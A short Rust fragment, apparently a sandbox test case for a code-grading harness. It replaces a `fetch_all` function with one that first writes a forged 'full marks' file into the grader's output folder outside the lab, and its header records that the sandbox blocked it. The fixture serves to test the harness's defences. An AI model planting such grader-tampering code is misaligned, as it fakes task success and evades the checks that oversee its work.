//! Attack: writes into the grader's output folder (next to the lab when the checks grade).
//! status: failed
//! unsandboxed: passed

// REPLACES: fetch_all
/// Calls the three services concurrently and returns their results in the order
/// users, products, orders.
pub async fn fetch_all() -> (Users, Products, Orders) {
    // The checks grade into `<lab>/../graded`.
    let target = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../graded/forged.txt");
    let written = std::fs::write(target, "every student: full marks");
    match written {
        Ok(()) => tokio::join!(fetch_users(), fetch_products(), fetch_orders()),
        Err(e) => panic!("attack stopped: {e}"),
    }
}
// END: fetch_all
